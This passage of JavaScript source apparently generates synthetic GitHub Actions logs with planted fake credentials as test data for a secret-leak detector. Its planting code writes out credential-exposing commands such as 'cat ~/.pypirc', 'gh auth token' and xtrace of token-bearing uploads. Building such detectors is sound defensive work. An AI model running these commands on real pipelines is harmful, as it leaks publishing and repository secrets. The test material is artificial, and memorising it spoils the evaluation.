          L(`    "node_modules/${pkg}": {`);
          L(`      "version": "${v}",`);
          L(`      "resolved": "https://registry.npmjs.org/${pkg}/-/${pkg.split('/').pop()}-${v}.tgz",`);
          L(`      "integrity": "sha512-${rng.b64(64)}",`);
          L(`      "dev": true`);
          L('    },');
        }
      }
    }
    L('');
    L(`added ${rng.int(100, 2400)} packages, and audited ${rng.int(100, 2400)} packages in ${rng.int(3, 90)}s`);
    L('');
    L(`${rng.int(50, 400)} packages are looking for funding`);
    L('  run `npm fund` for details');
    L('');
    L(rng.chance(0.8) ? 'found 0 vulnerabilities' : `${rng.int(1, 9)} ${rng.pick(['moderate', 'high'])} severity vulnerabilities`);
  };

  const npmPack = () => {
    const j = getJob();
    runHeader(rng.pick(['npm publish --provenance --access public', 'npm pack --dry-run']));
    L(`npm notice`);
    L(`npm notice 📦  @${j.owner}/${j.repo}@${rng.int(0, 5)}.${rng.int(0, 20)}.${rng.int(0, 20)}`);
    L('npm notice Tarball Contents');
    for (let i = rng.int(3, 12); i > 0; i--) L(`npm notice ${size(rng.next() * 80)} ${rng.pick(['dist/index.js', 'dist/index.d.ts', 'README.md', 'LICENSE', 'package.json', 'dist/cli.js', 'dist/index.cjs'])}`);
    L('npm notice Tarball Details');
    L(`npm notice name: @${j.owner}/${j.repo}`);
    L(`npm notice package size: ${size(rng.next() * 100 + 2)}`);
    L(`npm notice shasum: ${sha()}`);
    const integ = rng.b64(64);
    L(`npm notice integrity: sha512-${integ.slice(0, 13)}[...]${integ.slice(-15)}`);
    L(`npm notice total files: ${rng.int(3, 40)}`);
    if (rng.chance(0.5)) {
      L(`npm notice Publishing to https://registry.npmjs.org/ with tag latest and public access`);
      L(`npm notice publish Signed provenance statement with source and build information from GitHub Actions`);
      L(`npm notice publish Provenance statement published to transparency log: https://search.sigstore.dev/?logIndex=${rng.int(100_000_000, 400_000_000)}`);
    }
  };

  const pytest = () => {
    const j = getJob();
    runHeader(rng.pick(['pytest -q', 'python -m pytest --cov --cov-report=xml -n auto', 'pytest -v tests/', 'coverage run -m pytest && coverage report']), rng.chance(0.4) ? { DATABASE_URL: '***', CI: 'true' } : {});
    L(`============================= test session starts ==============================`);
    L(`platform linux -- Python ${j.python}, pytest-8.3.3, pluggy-1.5.0 -- /opt/hostedtoolcache/Python/${j.python}/x64/bin/python`);
    L(`cachedir: .pytest_cache`);
    L(`rootdir: /home/runner/work/${j.repo}/${j.repo}`);
    L(`configfile: pyproject.toml`);
    L(`plugins: cov-6.0.0, xdist-3.6.1, hypothesis-6.119.3`);
    const n = rng.int(40, 600);
    L(`collecting ... collected ${n} items`);
    L('');
    const files = rng.int(3, 20);
    let done = 0;
    for (let f = 0; f < files; f++) {
      const mod = `tests/test_${rng.pick(WORDS)}.py`;
      const count = f === files - 1 ? n - done : Math.min(n - done, rng.int(1, Math.ceil((2 * n) / files)));
      for (let i = 0; i < count; i++) {
        done++;
        const param = rng.chance(0.3) ? `[${rng.pick(['case', 'param', 'utf8', 'big', 'empty'])}-${rng.int(0, 30)}]` : '';
        L(`${mod}::test_${rng.pick(TEST_NAMES)}${param} ${rng.weighted([[95, 'PASSED'], [3, 'SKIPPED'], [1, 'XFAIL'], [1, 'FAILED']])} [${String(Math.floor((100 * done) / n)).padStart(3)}%]`);
      }
    }
    if (rng.chance(0.3)) {
      L('');
      L('=============================== warnings summary ===============================');
      L(`tests/test_${rng.pick(WORDS)}.py::test_${rng.pick(TEST_NAMES)}`);
      L(`  /opt/hostedtoolcache/Python/${j.python}/x64/lib/python3.12/site-packages/botocore/auth.py:424: DeprecationWarning: datetime.datetime.utcnow() is deprecated and scheduled for removal in a future version. Use timezone-aware objects to represent datetimes in UTC: datetime.datetime.now(datetime.UTC).`);
      L('    datetime_now = datetime.datetime.utcnow()');
      L('');
      L('-- Docs: https://docs.pytest.org/en/stable/how-to/capture-warnings.html');
    }
    if (rng.chance(0.1)) {
      L('=================================== FAILURES ===================================');
      L(`________________________ test_${rng.pick(TEST_NAMES)} _________________________`);
      L('');
      L(`    def test_digest(tmp_path):`);
      L(`        path = tmp_path / "blob.bin"`);
      L(`>       assert digest(path) == "sha256:${sha256()}"`);
      L(`E       AssertionError: assert 'sha256:${sha256()}' == 'sha256:${sha256()}'`);
      L(`E         - sha256:${sha256()}`);
      L(`E         + sha256:${sha256()}`);
    }
    L(`---------- coverage: platform linux, python ${j.python}-final-0 -----------`);
    L(`Coverage XML written to file coverage.xml`);
    L(`======================= ${n - 2} passed, 2 skipped in ${(rng.next() * 100).toFixed(2)}s ========================`);
  };

  const dockerBuild = () => {
    const j = getJob();
    actionHeader('docker/build-push-action', 'v6', { context: '.', push: 'true', tags: `ghcr.io/${j.full}:latest`, 'cache-from': 'type=gha', 'cache-to': 'type=gha,mode=max', provenance: 'true', sbom: 'true' });
    L('#0 building with "builder-' + rng.uuid() + '" instance using docker-container driver');
    L('');
    L('#1 [internal] load build definition from Dockerfile');
    L(`#1 transferring dockerfile: ${rng.int(300, 3000)}B done`);
    L('#1 DONE 0.0s');
    L('');
    L(`#2 [internal] load metadata for docker.io/library/python:3.12-slim`);
    L(`#2 DONE ${(rng.next() * 2).toFixed(1)}s`);
    const base = sha256();
    L(`#5 [1/6] FROM docker.io/library/python:3.12-slim@sha256:${base}`);
    L(`#5 resolve docker.io/library/python:3.12-slim@sha256:${base} done`);
    for (let i = rng.int(3, 7); i > 0; i--) {
      const layer = sha256();
      const total = (rng.next() * 40 + 0.1).toFixed(2);
      L(`#5 sha256:${layer} 0B / ${total}MB 0.2s`);
      L(`#5 sha256:${layer} ${total}MB / ${total}MB ${(rng.next() * 3).toFixed(1)}s done`);
      L(`#5 extracting sha256:${layer} ${(rng.next() * 2).toFixed(1)}s done`);
    }
    L('#5 DONE 4.1s');
    L('');
    L(`#8 [3/6] RUN pip install --no-cache-dir -r requirements.txt`);
    for (const [name, version] of rng.sample(PY_PACKAGES, rng.int(3, 12))) L(`#8 ${(rng.next() * 30).toFixed(3)} Collecting ${name.replace(/_/g, '-')}==${version}`);
    L(`#8 DONE ${(rng.next() * 60).toFixed(1)}s`);
    L('');
    L('#12 exporting to image');
    L('#12 exporting layers');
    L(`#12 exporting layers ${(rng.next() * 5).toFixed(1)}s done`);
    L(`#12 exporting manifest sha256:${sha256()} done`);
    L(`#12 exporting config sha256:${sha256()} done`);
    L(`#12 exporting attestation manifest sha256:${sha256()} 0.0s done`);
    L(`#12 naming to ghcr.io/${j.full}:latest done`);
    L(`#12 pushing layers ${(rng.next() * 10).toFixed(1)}s done`);
    L(`#12 pushing manifest for ghcr.io/${j.full}:latest@sha256:${sha256()} 0.5s done`);
    L('#12 DONE 12.0s');
    L(`ImageID: sha256:${sha256()}`);
    L(`Digest: sha256:${sha256()}`);
    L(`Metadata: {"buildx.build.ref":"builder-${rng.uuid()}/builder-${rng.uuid()}0/${rng.str('abcdefghijklmnopqrstuvwxyz0123456789', 25)}","containerimage.config.digest":"sha256:${sha256()}","containerimage.digest":"sha256:${sha256()}","image.name":"ghcr.io/${j.full}:latest"}`);
  };

  const uploadArtifact = () => {
    const j = getJob();
    actionHeader('actions/upload-artifact', 'v4', { name: rng.pick(['dist', 'coverage', 'wheels-linux', 'sbom', 'logs']), path: 'dist/', 'if-no-files-found': 'warn', 'compression-level': '6', overwrite: 'false', 'include-hidden-files': 'false' });
    L(`With the provided path, there will be ${rng.int(1, 30)} files uploaded`);
    L('Artifact name is valid!');
    L('Root directory input is valid!');
    L('Beginning upload of artifact content to blob storage');
    L(`Uploaded bytes ${rng.int(10_000, 90_000_000)}`);
    L('Finished uploading artifact content to blob storage!');
    L(`SHA256 digest of uploaded artifact zip is ${sha256()}`);
    L(`Finalizing artifact upload`);
    const id = rng.int(1_000_000_000, 4_000_000_000);
    L(`Artifact dist.zip successfully finalized. Artifact ID ${id}`);
    L(`Artifact dist has been successfully uploaded! Final size is ${rng.int(10_000, 90_000_000)} bytes. Artifact ID is ${id}`);
    L(`Artifact download URL: https://github.com/${j.full}/actions/runs/${rng.int(10_000_000_000, 19_999_999_999)}/artifacts/${id}`);
  };

  /** Sigstore bundles, attestations, certificates: base64 everywhere, nothing secret. */
  const attest = () => {
    const j = getJob();
    actionHeader('actions/attest-build-provenance', 'v1', { 'subject-path': 'dist/*', 'push-to-registry': 'false', 'show-summary': 'true', 'github-token': '***' });
    L(`Attestation created for ${j.project}-${rng.int(0, 5)}.${rng.int(0, 20)}.${rng.int(0, 20)}.tar.gz@sha256:${sha256()}`);
    L(`##[group]Generated attestation`);
    L('{');
    L('  "mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json",');
    L('  "verificationMaterial": {');
    L('    "tlogEntries": [');
    L('      {');
    L(`        "logIndex": "${rng.int(100_000_000, 400_000_000)}",`);
    L(`        "logId": { "keyId": "${rng.b64(32)}" },`);
    L('        "kindVersion": { "kind": "dsse", "version": "0.0.1" },');
    L(`        "integratedTime": "${w.nowSeconds()}",`);
    L(`        "inclusionPromise": { "signedEntryTimestamp": "${rng.b64(71)}" },`);
    L(`        "canonicalizedBody": "${Buffer.from(JSON.stringify({ apiVersion: '0.0.1', kind: 'dsse', spec: { envelopeHash: { algorithm: 'sha256', value: rng.hex(64) }, payloadHash: { algorithm: 'sha256', value: rng.hex(64) }, signatures: [{ signature: rng.b64(71), verifier: rng.b64(600) }] } })).toString('base64')}"`);
    L('      }');
    L('    ],');
    L('    "certificate": {');
    L(`      "rawBytes": "${rng.b64(rng.int(1400, 1700))}"`);
    L('    }');
    L('  },');
    L('  "dsseEnvelope": {');
    L(`    "payload": "${rng.b64(rng.int(600, 1500))}",`);
    L('    "payloadType": "application/vnd.in-toto+json",');
    L(`    "signatures": [ { "sig": "${rng.b64(71)}" } ]`);
    L('  }');
    L('}');
    L('##[endgroup]');
    if (rng.chance(0.4)) {
      L('Signing certificate:');
      L('-----BEGIN CERTIFICATE-----');
      const cert = rng.b64(rng.int(900, 1300));
      for (let i = 0; i < cert.length; i += 64) L(cert.slice(i, i + 64));
      L('-----END CERTIFICATE-----');
    }
    L(`Attestation uploaded to repository: https://github.com/${j.full}/attestations/${rng.int(1_000_000, 9_000_000)}`);
  };

  /** A minified bundle line printed by a failing build or a `cat` of dist/ (2–40 kB per line). */
  const minified = () => {
    const j = getJob();
    runHeader(rng.pick(['npm run build', 'npx vite build', 'node scripts/check-bundle.js']));
    L(`vite v5.4.${rng.int(1, 11)} building for production...`);
    L(`transforming...`);
    L(`✓ ${rng.int(100, 3000)} modules transformed.`);
    for (let i = rng.int(2, 8); i > 0; i--) L(`dist/assets/index-${rng.str(`${ALNUM}_-`, 8)}.js  ${(rng.next() * 900).toFixed(2)} kB │ gzip: ${(rng.next() * 300).toFixed(2)} kB`);
    const lines = rng.int(1, 4);
    L(`##[error]Build failed: ${rng.pick(['Unexpected token', 'Cannot read properties of undefined (reading \'map\')', 'Minified React error #185'])} in dist/assets/index.js:1:${rng.int(1000, 90000)}`);
    for (let k = 0; k < lines; k++) {
      const target = rng.int(2000, 40_000);
      const parts = [];
      let len = 0;
      while (len < target) {
        const piece = minPiece();
        parts.push(piece);
        len += piece.length;
      }
      L(parts.join(''));
    }
    L(`    at Object.<anonymous> (/home/runner/work/${j.repo}/${j.repo}/dist/assets/index.js:1:${rng.int(1000, 90000)})`);
    L(`    at Module._compile (node:internal/modules/cjs/loader:1554:14)`);
  };
  const minPiece = () => {
    const a = rng.pick(JS_IDENTS);
    const b = rng.pick(JS_IDENTS);
    switch (rng.int(0, 11)) {
      case 0: return `function ${a}(${b}){return ${b}&&${b}.__esModule?${b}:{default:${b}}}`;
      case 1: return `var ${a}=${b}(${rng.int(0, 999)}),`;
      case 2: return `${a}.${rng.pick(JS_WORDS)}=function(${b}){${rng.pick(JS_WORDS)}(${b})};`;
      case 3: return `"${rng.pick(WORDS)}-${rng.str(ALNUM, rng.int(4, 10))}":`;
      case 4: return `${a}.exports="data:image/png;base64,${rng.b64(rng.int(30, 300))}";`;
      case 5: return `{id:"${rng.uuid()}",hash:"${rng.hex(rng.pick([32, 40, 64]))}"},`;
      case 6: return `if(${a}===${b})throw new Error("${rng.pick(['invalid', 'unexpected', 'missing'])} ${rng.pick(WORDS)}");`;
      case 7: return `${a}[${rng.int(0, 99)}]=${b}?.${rng.pick(JS_WORDS)}??null;`;
      case 8: return `const ${a}${rng.int(0, 99)}=Symbol.for("react.${rng.pick(['element', 'portal', 'fragment', 'context'])}");`;
      case 9: return `${a}.integrity="sha384-${rng.b64(48)}";`;
      case 10: return `color:#${rng.hex(6)};`;
      default: return `${rng.pick(JS_WORDS)} ${a}=${rng.int(0, 1e6)};`;
    }
  };

  /** Ordinary `env` output, as a debugging step prints it: values of secrets are masked. */
  const envDumpMasked = () => {
    const j = getJob();
    runHeader(rng.pick(['env | sort', 'printenv', 'set']));
    for (const line of baseEnv(rng, j, { masked: true })) L(line);
  };

  const lint = () => {
    const j = getJob();
    runHeader(rng.pick(['ruff check .', 'pre-commit run --all-files', 'mypy src/', 'npx eslint .']));
    for (let i = rng.int(3, 25); i > 0; i--) {
      if (rng.chance(0.5)) L(`${rng.pick(['check yaml', 'check toml', 'trim trailing whitespace', 'fix end of files', 'ruff', 'ruff-format', 'mypy', 'detect private key', 'check for added large files'])}${'.'.repeat(rng.int(10, 60))}${rng.weighted([[90, 'Passed'], [10, '(no files to check)Skipped']])}`);
      else L(`src/${j.project}/${rng.pick(WORDS)}.py:${rng.int(1, 900)}:${rng.int(1, 80)}: ${rng.pick(['E501 Line too long (101 > 88)', 'F401 `os` imported but unused', 'error: Incompatible return value type (got "str | None", expected "str")  [return-value]', 'B008 Do not perform function call in argument defaults'])}`);
    }
    L(rng.chance(0.8) ? 'All checks passed!' : `Found ${rng.int(1, 20)} errors.`);
  };

  const codecov = () => {
    const j = getJob();
    actionHeader('codecov/codecov-action', 'v4', { token: '***', files: 'coverage.xml', fail_ci_if_error: 'false' });
    L(`==> Running version latest`);
    L(`==> Running command '/home/runner/work/_actions/codecov/codecov-action/v4/dist/codecov -v upload-process --git-service github -C ${sha()} -t ***'`);
    L(`info - ${new Date(w.nowSeconds() * 1000).toISOString()} -- ci service found: github-actions`);
    L(`info - ${new Date(w.nowSeconds() * 1000).toISOString()} -- Found 1 coverage files to report`);
    L(`info - ${new Date(w.nowSeconds() * 1000).toISOString()} -- > /home/runner/work/${j.repo}/${j.repo}/coverage.xml`);
    L(`info - ${new Date(w.nowSeconds() * 1000).toISOString()} -- Process Upload complete`);
    L(`info - ${new Date(w.nowSeconds() * 1000).toISOString()} -- Upload queued for processing complete. --- {"response_status_code": 200, "location": "https://app.codecov.io/github/${j.full}/commit/${sha()}"}`);
    if (rng.chance(0.3)) L(`debug - ${new Date(w.nowSeconds() * 1000).toISOString()} -- Upload request payload: {"report_code": "default", "build": "${rng.int(1e9, 2e10)}", "reportid": "${rng.uuid()}", "tokenless": false, "storage_path": "v4/raw/2025-09-05/${rng.hex(32).toUpperCase()}/${sha()}/${rng.uuid()}.txt"}`);
  };

  const publishMasked = () => {
    const j = getJob();
    actionHeader('pypa/gh-action-pypi-publish', 'release/v1', rng.chance(0.5) ? { user: '__token__', password: '***', 'repository-url': 'https://upload.pypi.org/legacy/', 'packages-dir': 'dist', 'verify-metadata': 'true', 'skip-existing': 'false', verbose: 'false', 'print-hash': 'true', attestations: 'true' } : { user: '__token__', 'repository-url': 'https://upload.pypi.org/legacy/', 'packages-dir': 'dist', attestations: 'true' });
    L(`/usr/bin/docker run --name ghcriopypagh${rng.hex(32)} --label ${rng.hex(6)} --workdir /github/workspace --rm -e "INPUT_USER" -e "INPUT_PASSWORD" -e "INPUT_REPOSITORY-URL" -e "HOME" -e "GITHUB_JOB" -e "GITHUB_REF" -e "ACTIONS_RUNTIME_URL" -e "ACTIONS_RUNTIME_TOKEN" -e "ACTIONS_ID_TOKEN_REQUEST_URL" -e "ACTIONS_ID_TOKEN_REQUEST_TOKEN" -v "/var/run/docker.sock":"/var/run/docker.sock" ghcr.io/pypa/gh-action-pypi-publish:release-v1`);
    debug('selected trusted publishing exchange endpoint: https://pypi.org/_/oidc/mint-token');
    L('Checking dist/* : PASSED');
    L(`Uploading distributions to https://upload.pypi.org/legacy/`);
    const version = `${rng.int(0, 5)}.${rng.int(0, 20)}.${rng.int(0, 20)}`;
    for (const f of [`${j.project}-${version}-py3-none-any.whl`, `${j.project}-${version}.tar.gz`]) {
      L(`Uploading ${f}`);
      L(`\u001b[?25l${'━'.repeat(40)} 0.0/${(rng.next() * 90 + 5).toFixed(1)} kB • --:-- • ?`);
      L(`\u001b[?25h${'━'.repeat(40)} ${(rng.next() * 90 + 5).toFixed(1)}/${(rng.next() * 90 + 5).toFixed(1)} kB • 00:00 • ?`);
    }
    L('');
    L('View at:');
    L(`https://pypi.org/project/${j.project}/${version}/`);
    L(`Showing hash values of files to be uploaded:`);
    L(`/github/workspace/dist/${j.project}-${version}.tar.gz`);
    L(`SHA256: ${sha256()}`);
    L(`MD5: ${rng.hex(32)}`);
    L(`BLAKE2-256: ${sha256()}`);
  };

  const debugNoise = () => {
    const name = rng.pick(['Run tests', 'Build', 'Publish', 'Set up job', 'Upload coverage']);
    debug(`Evaluating condition for step: '${name}'`);
    debug('Evaluating: success()');
    debug('Evaluating success:');
    debug('=> true');
    debug('Result: true');
    debug(`Starting: ${name}`);
    debug('Loading inputs');
    debug('Loading env');
    debug(`x-github-request-id: ${rng.hex(4).toUpperCase()}:${rng.hex(5).toUpperCase()}:${rng.hex(7).toUpperCase()}:${rng.hex(7).toUpperCase()}:${rng.hex(8).toUpperCase()}`);
    debug(`Request ID: ${rng.uuid()}`);
    debug(`Finishing: ${name}`);
  };

  const sshKeyscan = () => {
    runHeader('mkdir -p ~/.ssh && ssh-keyscan github.com >> ~/.ssh/known_hosts');
    L('# github.com:22 SSH-2.0-babeld-' + rng.hex(8));
    L(`github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${rng.b64(32).slice(0, 43)}`);
    L(`github.com ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBB${rng.b64(64)}`);
    L(`github.com ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ${rng.b64(384)}`);
    L(`Host key fingerprint: SHA256:${rng.b64(32).slice(0, 43)}`);
  };

  const base64Artifacts = () => {
    // Matrix and config blobs passed between jobs base64-encoded, and binary payloads.
    runHeader(rng.pick(['echo "matrix=$(jq -c . matrix.json | base64 -w0)" >> "$GITHUB_OUTPUT"', 'base64 -w0 coverage.tar.gz | head -c 4096', 'cat build-info.b64']));
    if (rng.chance(0.5)) {
      const json = JSON.stringify({ include: rng.sample(['ubuntu-latest', 'macos-latest', 'windows-latest'], 2).map((os) => ({ os, python: rng.pick(PYTHONS).split('.').slice(0, 2).join('.'), toxenv: `py${rng.int(39, 313)}` })) });
      L(`matrix=${Buffer.from(json).toString('base64')}`);
    } else {
      L(Buffer.concat([Buffer.from('1f8b0800000000000003', 'hex'), rng.bytes(rng.int(200, 3000))]).toString('base64'));
    }
    if (rng.chance(0.3)) {
      // Double-base64 of harmless text: a decoder must not report it.
      const inner = `{"ref":"refs/heads/main","sha":"${sha()}","run_id":${rng.int(1e9, 2e10)},"actor":"${getJob().owner}"}`;
      L(Buffer.from(Buffer.from(inner).toString('base64')).toString('base64'));
    }
  };

  const gitLog = () => {
    runHeader('git log --oneline -n 20');
    for (let i = rng.int(5, 20); i > 0; i--) L(`${rng.hex(7)} ${rng.pick(['Fix', 'Add', 'Bump', 'Refactor', 'Update', 'Remove'])} ${rng.pick(WORDS)} ${rng.pick(['handling', 'tests', 'docs', 'from 1.2.3 to 1.2.4', 'config', 'typing'])} (#${rng.int(1, 3000)})`);
    if (rng.chance(0.4)) {
      L(`commit ${sha()}`);
      L(`Merge: ${rng.hex(7)} ${rng.hex(7)}`);
      L(`Author: dependabot[bot] <49699333+dependabot[bot]@users.noreply.github.com>`);
      L(`    Signed-off-by: dependabot[bot] <support@github.com>`);
    }
  };

  const services = () => {
    // A job with a postgres service container: its default password is in the workflow, not a secret.
    L(`##[group]Starting postgres service container`);
    L(`/usr/bin/docker --version`);
    L(`Docker version 28.0.4, build b8034c0`);
    L(`/usr/bin/docker pull postgres:16`);
    L(`16: Pulling from library/postgres`);
    for (let i = rng.int(5, 12); i > 0; i--) L(`${rng.hex(12)}: Pull complete`);
    L(`Digest: sha256:${sha256()}`);
    L(`Status: Downloaded newer image for postgres:16`);
    L(`docker.io/library/postgres:16`);
    L(`/usr/bin/docker create --name ${rng.hex(32)}_postgres16_${rng.hex(6)} --label ${rng.hex(6)} --network github_network_${rng.hex(32)} --network-alias postgres -p 5432:5432 --health-cmd pg_isready --health-interval 10s --health-timeout 5s --health-retries 5 -e "POSTGRES_PASSWORD=postgres" -e GITHUB_ACTIONS=true -e CI=true postgres:16`);
    L(sha256());
    L('##[endgroup]');
  };

  const stepList = [
    [6, pipInstall], [3, uvSync], [5, npmCi], [2, npmPack], [6, pytest], [3, dockerBuild], [3, cacheRestore], [2, setupPython], [2, uploadArtifact], [1, attest],
    [1, minified], [1, envDumpMasked], [3, lint], [2, codecov], [1, publishMasked], [2, debugNoise], [1, sshKeyscan], [2, base64Artifacts], [2, gitLog], [1, services],
  ];

  const pickSteps = () => {
    const steps = [checkout];
    if (rng.chance(0.6)) steps.push(setupPython);
    if (rng.chance(0.5)) steps.push(cacheRestore);
    for (let i = rng.int(3, 10); i > 0; i--) steps.push(rng.weighted(stepList));
    return steps;
  };

  return { jobHeader, jobFooter, pickSteps };
}

/** The environment a `run:` step sees, sorted as `env | sort` prints it. */
function baseEnv(rng, job, { masked, extra = {} }) {
  const env = {
    CI: 'true',
    GITHUB_ACTIONS: 'true',
    GITHUB_ACTOR: job.owner,
    GITHUB_ACTOR_ID: String(rng.int(1000, 99_999_999)),
    GITHUB_API_URL: 'https://api.github.com',
    GITHUB_EVENT_NAME: rng.pick(['push', 'release', 'workflow_dispatch', 'pull_request']),
    GITHUB_EVENT_PATH: '/home/runner/work/_temp/_github_workflow/event.json',
    GITHUB_JOB: rng.pick(['build', 'publish', 'release', 'test']),
    GITHUB_REF: 'refs/heads/main',
    GITHUB_REPOSITORY: job.full,
    GITHUB_RUN_ID: String(rng.int(10_000_000_000, 19_999_999_999)),
    GITHUB_SHA: rng.hex(40),
    GITHUB_WORKSPACE: `/home/runner/work/${job.repo}/${job.repo}`,
    HOME: '/home/runner',
    ImageOS: 'ubuntu24',
    PATH: '/home/runner/.local/bin:/opt/pipx_bin:/home/runner/.cargo/bin:/home/runner/.config/composer/vendor/bin:/usr/local/.ghcup/bin:/home/runner/.dotnet/tools:/snap/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin',
    RUNNER_ARCH: 'X64',
    RUNNER_NAME: `GitHub Actions ${rng.int(1, 999)}`,
    RUNNER_OS: 'Linux',
    RUNNER_TEMP: '/home/runner/work/_temp',
    RUNNER_TOOL_CACHE: '/opt/hostedtoolcache',
    RUNNER_TRACKING_ID: `github_${rng.uuid()}`,
    pythonLocation: `/opt/hostedtoolcache/Python/${job.python}/x64`,
    ...extra,
  };
  if (masked) {
    env.ACTIONS_ID_TOKEN_REQUEST_TOKEN = '***';
    env.ACTIONS_ID_TOKEN_REQUEST_URL = idTokenUrl(rng);
    env.ACTIONS_RUNTIME_TOKEN = '***';
    env.GITHUB_TOKEN = '***';
    env.PYPI_API_TOKEN = '***';
  }
  return Object.keys(env)
    .sort()
    .map((k) => `${k}=${env[k]}`);
}

const idTokenUrl = (rng) => `https://run-actions-${rng.int(1, 3)}-azure-eastus.actions.githubusercontent.com/${rng.int(10, 99)}/idtoken/${rng.uuid()}/${rng.uuid()}?api-version=2.0`;

// ---------------------------------------------------------------------------------------------
// Planted credentials: a small step that prints one, the way real leaks look.

function plant(rng, w, job, kind, variant, record, related) {
  const now = w.nowSeconds();
  const L = (text) => w.line(text);
  /** A `##[group]Run` header; returns the line numbers of the script and of each env entry. */
  const header = (script, env) => {
    const lines = script.split('\n');
    const at = { script: [] };
    at.script.push(L(`##[group]Run ${lines[0]}`));
    for (const line of lines) at.script.push(L(line));
    L('shell: /usr/bin/bash -e {0}');
    if (env) {
      L('env:');
      for (const [k, v] of Object.entries(env)) at[k] = L(`  ${k}: ${v}`);
    }
    L('##[endgroup]');
    return at;
  };
  const version = () => `${rng.int(0, 5)}.${rng.int(0, 20)}.${rng.int(0, 9)}`;

  switch (kind) {
    case 'pypi-token':
    case 'pypi-trusted-publishing-token':
    case 'testpypi-token': {
      const projects = variant.endsWith('-2') ? [job.repo, `${job.repo}-plugins`] : [job.repo];
      const tokenVariant = variant.replace(/-2$/, '');
      const token = pypiVariant(rng, tokenVariant, { nowSeconds: now, projects });
      const index = kind === 'testpypi-token' ? 'test.pypi.org' : 'pypi.org';
      if (tokenVariant.includes('trusted-publishing')) {
        // A hand-rolled exchange that prints PyPI's response.
        header(`resp=$(curl -sS -X POST https://${index}/_/oidc/mint-token -d "{\\"token\\": \\"\${OIDC_TOKEN}\\"}")\necho "$resp"`, { OIDC_TOKEN: '***' });
        record(kind, variant, L(`{"success":true,"token":"${token}","expires":${now + 900}}`), token, { context: 'mint-token response' });
        break;
      }
      switch (rng.int(0, 3)) {
        case 0:
          header('set -x\ntwine upload --skip-existing dist/*', { TWINE_USERNAME: '__token__' });
          record(kind, variant, L(`+ twine upload --skip-existing --username __token__ --password ${token} dist/*`), token, { context: 'xtrace' });
          L(`Uploading distributions to https://${index === 'pypi.org' ? 'upload.pypi.org' : 'test.pypi.org'}/legacy/`);
          break;
        case 1:
          header('cat ~/.pypirc');
          L('[distutils]');
          L(`index-servers = ${index === 'pypi.org' ? 'pypi' : 'testpypi'}`);
          L('');
          L(`[${index === 'pypi.org' ? 'pypi' : 'testpypi'}]`);
          L('username = __token__');
          record(kind, variant, L(`password = ${token}`), token, { context: '.pypirc' });
          break;
        case 2:
          header('uv publish --verbose');
          L(`DEBUG uv ${version()}`);
          record(kind, variant, L(`DEBUG Using UV_PUBLISH_TOKEN=${token} from environment`), token, { context: 'debug output' });
          break;
        default:
          header('poetry config pypi-token.pypi "$PYPI_TOKEN" && poetry config --list');
          L('cache-dir = "/home/runner/.cache/pypoetry"');
          record(kind, variant, L(`pypi-token.pypi = "${token}"`), token, { context: 'poetry config --list' });
      }
      break;
    }
    case 'github-pat': {
      const token = checksummed(rng, 'ghp_');
      header('git remote set-url origin "https://${GH_PAT}@github.com/${GITHUB_REPOSITORY}.git" && git remote -v');
      record(kind, variant, L(`origin\thttps://${token}@github.com/${job.full}.git (fetch)`), token, { context: 'git remote -v' });
      // The push line repeats the same token: reporting it is fine, and not required.
      related.push(L(`origin\thttps://${token}@github.com/${job.full}.git (push)`));
      break;
    }
    case 'github-oauth-token': {
      const token = checksummed(rng, 'gho_');
      header('gh auth token');
      record(kind, variant, L(token), token, { context: 'gh auth token' });
      break;
    }
    case 'github-app-user-token':
    case 'github-app-refresh-token': {
      // A GitHub App user-to-server token exchange, pretty-printed by jq: one token per line.
      const user = checksummed(rng, 'ghu_');
      const refresh = checksummed(rng, 'ghr_');
      header('curl -sS -X POST https://github.com/login/oauth/access_token -H "Accept: application/json" -d @exchange.json | jq .');
      L('{');
      const a = L(`  "access_token": "${user}",`);
      L('  "expires_in": 28800,');
      const r = L(`  "refresh_token": "${refresh}",`);
      L('  "refresh_token_expires_in": 15811200,');
      L('  "scope": "",');
      L('  "token_type": "bearer"');
      L('}');
      record('github-app-user-token', 'ghu', a, user, { context: 'token exchange JSON' });
      record('github-app-refresh-token', 'ghr', r, refresh, { context: 'token exchange JSON' });
      break;
    }
    case 'github-app-installation-token': {
      const token = checksummed(rng, 'ghs_');
      header('echo "GITHUB_TOKEN=$(cat /tmp/app-token)" | tee -a debug.txt');
      record(kind, variant, L(`GITHUB_TOKEN=${token}`), token, { context: 'echo' });
      break;
    }
    case 'github-fine-grained-pat': {
      const token = other.githubFineGrained(rng);
      header('set -x\ngh release create "$TAG" dist/* --repo "$REPO"', { TAG: `v${version()}` });
      record(kind, variant, L(`+ GH_TOKEN=${token} gh release create v1.4.0 dist/${job.project}-1.4.0.tar.gz --repo ${job.full}`), token, { context: 'xtrace' });
      break;
    }
    case 'github-oidc-jwt': {
      const token = githubOidcJwt(rng, {
        nowSeconds: now,
        repo: job.repo,
        owner: job.owner,
        workflowFile: rng.pick(['release.yml', 'publish.yml', 'ci.yml']),
        environment: rng.chance(0.6) ? rng.pick(['pypi', 'release', 'production']) : undefined,
        eventName: rng.pick(['push', 'release', 'workflow_dispatch']),
        ref: rng.chance(0.5) ? 'refs/heads/main' : `refs/tags/v${version()}`,
      });
      if (variant === 'curl-response') {
        header('curl -sS -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=pypi"');
        record(kind, variant, L(`{"count":${rng.int(1000, 2400)},"value":"${token}"}`), token, { context: 'curl response' });
      } else {
        header('set -x\nOIDC_TOKEN=$(curl -sS -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=pypi" | jq -r .value)');
        L(`++ curl -sS -H 'Authorization: bearer ***' '${idTokenUrl(rng)}&audience=pypi'`);
        L('++ jq -r .value');
        record(kind, variant, L(`+ OIDC_TOKEN=${token}`), token, { context: 'xtrace' });
      }
      break;
    }
    case 'jwt': {
      const token = otherJwt(rng, now);
      header('curl -v -H "Authorization: Bearer $(./get-token.sh)" https://api.internal.example-corp.net/v2/deployments');
      L('*   Trying 10.0.12.34:443...');
